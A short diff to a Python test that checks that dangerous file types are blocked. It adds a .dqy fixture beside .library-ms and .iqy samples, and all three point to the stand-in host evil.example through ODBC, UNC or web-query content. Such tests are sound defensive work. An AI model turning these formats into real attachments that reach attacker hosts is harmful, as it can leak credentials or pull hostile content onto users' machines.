@@ -197,6 +197,7 @@ def test_mismatched_name_is_corrected_on_delivery(tmp_path: Path) -> None:
     ("資料.library-ms", b'<?xml version="1.0"?><libraryDescription><url>'
                        b"\\\\evil.example@80\\share</url></libraryDescription>"),
     ("web.iqy", b"http://evil.example/q\r\n"),
+    ("db.dqy", b"XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=evil.example\r\n"),
 ])
 def test_scripts_are_blocked_by_content_and_extension(tmp_path: Path, name: str,
                                                        data: bytes) -> None:
